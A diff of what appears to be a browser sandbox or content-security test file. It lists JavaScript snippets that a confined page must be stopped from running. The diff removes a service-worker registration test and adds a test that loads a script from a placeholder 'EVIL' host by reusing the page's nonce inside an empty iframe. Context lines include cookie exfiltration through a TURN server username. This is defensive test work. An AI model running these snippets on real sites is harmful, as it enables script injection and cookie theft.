@@ -46,7 +46,6 @@ const STOPPED: Readonly<Record<string, string>> = {
   'run a worker of a blob': `await new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = done; w.onerror = fail; }); return true`,
   'share a worker with other tabs': `new SharedWorker('/h/main.js'); return true`,
   'run a worklet': `await new AudioContext().audioWorklet.addModule(EVIL + '/worklet'); return true`,
-  'make its own file a service worker': `const [own] = performance.getEntriesByType('resource').map(({ name }) => name).filter((name) => name.includes('/r/help/')); const f = document.createElement('iframe'); document.body.append(f); await f.contentWindow.navigator.serviceWorker.register(own); return true`,
   'write the storage of the offline worker': `await caches.open('offline-2'); return true`,
   'change what every object inherits': `'use strict'; Object.prototype.evil = 1; return true`,
   'listen in on every request': `'use strict'; window.fetch = () => undefined; return true`,
@@ -100,6 +99,8 @@ const LEAVING: Readonly<Record<string, string>> = {
   'by a refresh': `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + EVIL + '/refresh'; document.head.append(m)`,
   'by the navigation API': `navigation.navigate(EVIL + '/navigation')`,
   'through a window of an empty frame': `const f = document.createElement('iframe'); document.body.append(f); const w = f.contentWindow.open('about:blank'); w.location = EVIL + '/window'`,
+  'through a script of an empty frame with the nonce of the page': `const f = document.createElement('iframe'); document.body.append(f); const w = f.contentWindow; w.trustedTypes.createPolicy('default', { createScriptURL: (one) => one });
+    const s = w.document.createElement('script'); s.nonce = document.querySelector('script[nonce]').nonce; s.integrity = 'sha384-' + 'A'.repeat(64); s.crossOrigin = 'anonymous'; s.src = EVIL + '/script'; w.document.body.append(s); await new Promise((done) => { s.onload = s.onerror = done })`,
   'through a TURN server of an empty frame': `const f = document.createElement('iframe'); document.body.append(f); const p = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: TURN, username: document.cookie, credential: 'x' }] });
     p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); await new Promise((done) => { p.onicegatheringstatechange = () => p.iceGatheringState === 'complete' && done() })`,
 };
